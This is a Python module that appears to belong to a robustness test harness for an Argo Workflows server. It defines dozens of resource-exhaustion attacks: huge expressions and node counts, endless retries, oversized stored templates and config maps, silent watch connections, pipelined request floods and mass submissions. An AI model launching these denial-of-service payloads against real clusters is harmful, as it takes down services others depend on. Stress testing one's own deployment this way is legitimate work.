"""Bombs of the second kind: what a client stores, watches, asks for again and again, or does to a run that is large already."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable

from attacks import CORE, LASTS, RUNS, Attack, Server, large_run, request, run, stored, together
from workflows import (
    ECHO,
    HOLD,
    PARAMETERS,
    SHELL,
    SHORT,
    TRUE,
    Json,
    expression,
    given,
    loop,
    many_tasks,
    step,
    workflow,
)


def conditions(count: int, width: int) -> Json:
    """Layers of tasks, each of which depends on all those of the layer before it by an expression."""
    tasks: list[Json] = []
    for layer in range(count // width):
        before = [f"t{n}" for n in range((layer - 1) * width, layer * width)] if layer else []
        depends = " && ".join(f"({name}.Succeeded || {name}.Skipped && !{name}.Failed)" for name in before)
        for n in range(layer * width, (layer + 1) * width):
            tasks.append({"name": f"t{n}", "template": "t", **({"depends": depends} if depends else {"when": "false"})})
    return workflow({"name": "m", "dag": {"tasks": tasks}}, TRUE)


def cascade(levels: int) -> Json:
    """Exit handlers that have exit handlers."""
    templates = [
        {"name": "m" if not n else f"t{n}",
         "steps": [[{"name": "a", "template": "t", "hooks": {"exit": {"template": f"t{n + 1}"}}},
                    {"name": "b", "template": "t", "hooks": {"exit": {"template": f"t{n + 1}"}}}]]}
        for n in range(levels)
    ]  # fmt: skip
    return workflow(*templates, TRUE | {"name": f"t{levels}"}, {"name": "t", "suspend": {"duration": "0"}}, onExit="t1")


def cached(count: int) -> Json:
    """One cache for the outputs of many nodes, of which each has much to keep."""
    template = {
        "name": "c",
        "inputs": {"parameters": [{"name": "x"}]},
        "memoize": {"key": "{{inputs.parameters.x}}", "cache": {"configMap": {"name": "cache"}}},
        "script": {"image": "busybox", "command": ["sh"], "source": "head -c 20000 /dev/zero | tr '\\0' x > /tmp/p"},
        "outputs": {"parameters": [{"name": "p", "valueFrom": {"path": "/tmp/p"}}]},
    }
    return loop(template, count)


WORKFLOWS: dict[str, Callable[[], Json]] = {
    "depends: layers of 100 by expressions": lambda: conditions(1000, 100),
    "depends: one task after 5,000": lambda: many_tasks(5001, lambda n: [f"t{k}" for k in range(5000)] if n == 5000 else []),
    "when: an expression of 200,000 characters": lambda: step(when="{{= " + " || ".join(["1 == 2"] * 20_000) + " }}"),
    "when: 5,000 items with an expression of 5,000 characters": lambda: loop(
        HOLD, 5000, {"when": "{{= " + " || ".join(["'{{item}}' == '1'"] * 250) + " }}"}
    ),
    "retry: 500 that fail at once, without end": lambda: loop(
        {"name": "f", "container": SHELL | {"args": ["false"]}, "retryStrategy": {"limit": "100000", "backoff": {"duration": "0"}}}, 500
    ),
    "retry: by an expression, 5,000 suspended": lambda: loop(
        HOLD | {"retryStrategy": {"limit": "10", "expression": "asInt(lastRetry.exitCode) > 1"}}, 5000
    ),
    "locks: 5,000 wait for a mutex": lambda: loop(HOLD | {"synchronization": {"mutexes": [{"name": "one"}]}}, 5000),
    "locks: 3,000 that want five each": lambda: loop(
        HOLD | {"inputs": {"parameters": [{"name": "x"}]},
                "synchronization": {"mutexes": [{"name": f"m{n}-{{{{inputs.parameters.x}}}}"} for n in range(5)]}}, 3000),
    "suspend: 20,000 with a time of their own": lambda: loop({"name": "h", "suspend": {"duration": "{{item}}"}} | {
        "inputs": {"parameters": [{"name": "x"}]}, "suspend": {"duration": "{{inputs.parameters.x}}"}}, 20_000),
    "deadline: 10,000 nodes with one": lambda: loop(HOLD | {"activeDeadlineSeconds": 3}, 10_000),
    "hooks: 2,000 steps with ten each": lambda: loop(
        HOLD, 2000, {"hooks": {f"h{n}": {"template": "t", "expression": "steps.s.status == 'Failed'"} for n in range(10)}}
    ) | {},
    "hooks: exit handlers of exit handlers": lambda: cascade(14),
    "metrics: 10,000 labels": lambda: loop(
        HOLD | {"inputs": {"parameters": [{"name": "x"}]}, "suspend": {"duration": "0"}, "metrics": {"prometheus": [
            {"name": "wide", "help": "x", "gauge": {"value": "1"}, "labels": [{"key": "k", "value": "{{inputs.parameters.x}}" * 20}]}]}},
        10_000,
    ),
    "memoize: a cache of 2,000 large entries": lambda: cached(2000),
    "artifacts: 3,000 outputs that are there": lambda: workflow(
        {"name": "m", "container": SHELL | {"args": ["cd /tmp; for n in $(seq 3000); do echo $n > a$n; done"]},
         "outputs": {"artifacts": [{"name": f"a{n}", "path": f"/tmp/a{n}"} for n in range(1, 3001)]}}
    ),  # fmt: skip
    "artifacts: a folder of 30,000 files": lambda: workflow(
        {"name": "m", "container": SHELL | {"args": ["mkdir /tmp/d; cd /tmp/d; seq 30000 | xargs touch"]},
         "outputs": {"artifacts": [{"name": "d", "path": "/tmp/d", "archive": {"none": {}}}]}}
    ),  # fmt: skip
    "output: 15 MB from each of six, for one": lambda: workflow(
        {"name": "m", "steps": [[{"name": "a", "template": "p", "withSequence": {"count": 6}}],
                                [{"name": "b", "template": "e", "arguments": given("{{steps.a.outputs.parameters.p}}")}]]},
        {"name": "p", "container": SHELL | {"args": ["head -c 15000000 /dev/zero | tr '\\0' x > /tmp/p"]},
         "outputs": {"parameters": [{"name": "p", "valueFrom": {"path": "/tmp/p"}}]}}, ECHO,
    ),  # fmt: skip
    "output: a progress file that never stops": lambda: workflow(
        {"name": "m", "container": SHELL | {"args": ["while :; do echo 1/1000000 > $ARGO_PROGRESS_FILE; done"]}}
    ),
    "http: 2,000 templates": lambda: loop({"name": "w", "http": {"url": "http://127.0.0.1:9/"}}, 2000),
    "data: 2,000 templates": lambda: loop(
        {"name": "d", "data": {"source": {"artifactPaths": {"name": "a", "s3": {"key": "none"}}},
                               "transformation": [{"expression": "map(1..300, {map(1..100, {1})})"}]}}, 2000),
    "resource: 500 that create": lambda: loop(
        {"name": "r", "resource": {"action": "create", "setOwnerReference": True,
                                   "manifest": "apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: b-}\ndata: {a: b}\n"}}, 500),
    "daemons: 300": lambda: loop({"name": "d", "daemon": True, "container": SHELL | {"args": ["sleep 100"]}}, 300),
    "parallelism: 20,000 one after the other": lambda: loop(HOLD | {"suspend": {"duration": "0"}}, 20_000, parallelism=1),
    "labels: from 500 expressions of 500 items": lambda: expression("len(map(1..500, {map(1..500, {1})}))")
    | {"metadata": {"generateName": "bomb-", "labels": {f"l{n}": "x" for n in range(500)}}},
}  # fmt: skip


def to_large_run(*calls: tuple[str, Json], times: int = 1, template: Json = HOLD) -> Attack:
    """PUT calls to a run of 10,000 nodes, then its end."""

    def attack(server: Server) -> str:
        name, answers = large_run(server, template), []
        for _ in range(times):
            for verb, body in calls:
                start = time.monotonic()
                status, answer = server.call("PUT", f"{RUNS}/{name}/{verb}", body, timeout=120)
                answers.append(f"{verb} {status} {time.monotonic() - start:.1f} s")
                if verb == "resubmit" and status == 200:
                    server.call("DELETE", f"{RUNS}/{json.loads(answer)['metadata']['name']}", timeout=120)
        server.call("DELETE", f"{RUNS}/{name}", timeout=120)
        return " ".join(answers[-4:])

    return attack


def asked_for(count: int, path: str) -> Attack:
    """A run of 10,000 nodes, and many clients that want to have it."""

    def attack(server: Server) -> str:
        name = large_run(server)
        answer = together(count, "GET", path.replace("NAME", name))(server)
        server.call("DELETE", f"{RUNS}/{name}", timeout=120)
        return answer[:60]

    return attack


def silent_watchers(count: int, selector: str = "") -> Attack:
    """Clients that watch and never read, while a run of 5,000 nodes goes on."""

    def attack(server: Server) -> str:
        path = f"/api/v1/workflow-events/default?listOptions.labelSelector={selector}"
        head = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {server.token}\r\nAccept: text/event-stream\r\n\r\n"
        held = []
        try:
            for _ in range(count):
                one = socket.create_connection(server.argo, timeout=5)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                one.sendall(head.encode())
                held.append(one)
            return run(server, loop(HOLD | {"suspend": {"duration": "0"}}, 5000))
        finally:
            for one in held:
                one.close()

    return attack


def flood_of_lines(server: Server) -> str:
    """A task that writes as fast as it can, and followers that never read."""
    document = workflow(
        {"name": "m", "container": SHELL | {"args": ["yes aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | head -c 300000000"]}}
    )
    status, answer = server.call("POST", RUNS, {"workflow": document})
    name = json.loads(answer)["metadata"]["name"]
    time.sleep(1)
    path = f"{RUNS}/{name}/log?logOptions.container=main&logOptions.follow=true"
    head = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {server.token}\r\n\r\n"
    held = [socket.create_connection(server.argo, timeout=5) for _ in range(20)]
    for one in held:
        one.sendall(head.encode())
    time.sleep(LASTS)
    for one in held:
        one.close()
    server.call("DELETE", f"{RUNS}/{name}", timeout=120)
    return str(status)


def one_connection(server: Server) -> str:
    """Ten thousand requests at once on one connection, whose answers nobody reads at first."""
    head = f"GET /api/v1/workflows/default HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {server.token}\r\n\r\n".encode()
    with socket.create_connection(server.argo, timeout=20) as connection:
        sender = threading.Thread(target=lambda: connection.sendall(head * 10_000), daemon=True)
        sender.start()
        time.sleep(LASTS)
        return f"{len(connection.recv(1_000_000))} bytes of the answers"


def bindings(server: Server) -> str:
    """An event that submits a workflow for each of 300 bindings, ten times."""
    server.call(
        "POST",
        "/api/v1/workflow-templates/default",
        {"template": {"metadata": {"name": "bound"}, "spec": step()["spec"]}},
    )
    path = "/apis/argoproj.io/v1alpha1/namespaces/default/workfloweventbindings"
    for n in range(300):
        spec = {"event": {"selector": "true"}, "submit": {"workflowTemplateRef": {"name": "bound"}}}
        server.call("POST", path, {"metadata": {"name": f"b{n}"}, "spec": spec}, kubernetes=True)
    answer = together(10, "POST", "/api/v1/events/default/x", lambda: {"a": 1})(server)
    time.sleep(LASTS)
    for n in range(300):
        server.call("DELETE", f"{path}/b{n}", kubernetes=True)
    return answer


def namespace_of_many(server: Server) -> str:
    """A namespace with a thousand runs is deleted."""
    server.call("POST", "/api/v1/namespaces", {"metadata": {"name": "many"}}, kubernetes=True)
    document = workflow(HOLD | {"name": "m"})
    for _ in range(1000):
        server.call("POST", "/api/v1/workflows/many", {"workflow": document})
    start = time.monotonic()
    status, _ = server.call("DELETE", "/api/v1/namespaces/many", kubernetes=True)
    return f"{status} after {time.monotonic() - start:.1f} s"


def chain_of_templates(n: int) -> Json:
    """The n-th of a chain of stored templates, each of which calls the one before it."""
    call: Json = {"name": "s", "templateRef": {"name": f"chain-{n - 1}", "template": "m"}}
    main = {"name": "m", "steps": [[call]]} if n else TRUE | {"name": "m"}
    return {"template": {"metadata": {"name": f"chain-{n}"}, "spec": {"entrypoint": "m", "templates": [main]}}}


ALL_OF_CHAIN = workflow({"name": "m", "dag": {"tasks": [
    {"name": f"t{n}", "templateRef": {"name": f"chain-{n}", "template": "m"}} for n in range(0, 1000, 10)]}})  # fmt: skip
REQUESTS: dict[str, Attack] = {
    "stored: a chain of 1,000 templates": stored(
        1000, "/api/v1/workflow-templates/default", chain_of_templates, then=ALL_OF_CHAIN),
    "stored: 100 templates of 1 MB": stored(100, "/api/v1/workflow-templates/default", lambda n: {"template": {
        "metadata": {"name": f"big-{n}"}, "spec": {"entrypoint": "m", "templates": [
            {"name": "m", "container": {"image": "busybox", "command": ["true"], "args": ["x" * 1_000_000]}}]}}}, then=step()),
    "stored: 2,000 cron workflows": stored(2000, "/api/v1/cron-workflows/default", lambda n: {"cronWorkflow": {
        "metadata": {"name": f"often-{n}"}, "spec": {"schedules": ["* * * * *"], "workflowSpec": step()["spec"]}}}),
    "stored: 60 config maps of 25 MB": stored(
        60, f"{CORE}/configmaps", lambda n: {"metadata": {"name": f"m-{n}"}, "data": {"a": "x" * 25_000_000}}, kubernetes=True),
    "stored: 200 config maps of parameters": stored(
        200, f"{CORE}/configmaps", lambda n: {"metadata": {"name": f"p-{n}", "labels": PARAMETERS}, "data": {"a": "x" * 900_000}},
        kubernetes=True, then=step()),
    "stored: 5,000 events": stored(
        5000, f"{CORE}/events", lambda n: {"metadata": {"name": f"e-{n}"}, "involvedObject": {}, "message": "x" * 1000}, kubernetes=True),
    "stored: a namespace of 1,000 runs goes": namespace_of_many,
    "events: 300 bindings, 10 times": bindings,
    "put: suspend and resume 10,000 nodes": to_large_run(("suspend", {}), ("resume", {}), times=5),
    "put: set of 10,000 nodes": to_large_run(("set", {"nodeFieldSelector": "phase=Running", "message": "x", "phase": "Succeeded"})),
    "put: resubmit of 10,000 nodes": to_large_run(("terminate", {}), ("resubmit", {}), ("resubmit", {"memoized": True})),
    "put: retry of 10,000 nodes": to_large_run(("terminate", {}), ("retry", {}), ("terminate", {}), ("retry", {"restartSuccessful": True})),
    "put: stop of 10,000 nodes with exit handlers": to_large_run(("stop", {"message": "x"})),
    "get: 100 clients, 10,000 nodes": asked_for(100, f"{RUNS}/NAME"),
    "get: 100 clients, a field of 10,000 nodes": asked_for(100, f"{RUNS}/NAME?fields=status.nodes.phase"),
    "get: 100 clients list all runs whole": asked_for(100, RUNS),
    "get: 100 clients ask for metrics": asked_for(100, "/metrics"),
    "get: 100 clients archived runs": asked_for(100, "/api/v1/archived-workflows?listOptions.namespace=default"),
    "get: 10,000 on one connection": one_connection,
    "watch: 300 that never read": silent_watchers(300),
    "watch: 100 with selectors of 1,000 values": silent_watchers(100, "a+notin+(" + ",".join(f"v{n}" for n in range(1000)) + ")"),
    "logs: a flood, and 20 that never read": flood_of_lines,
    "body: gzip": request("POST", RUNS, lambda: b"\x1f\x8b" + b"0" * 1_000_000, headers=[("Content-Encoding", "gzip")]),
    "submit: 50 clients, 5,000 nodes each": together(
        50, "POST", RUNS, lambda: {"workflow": loop(SHORT, 5000, ttlStrategy={"secondsAfterCompletion": 1})}),
}  # fmt: skip
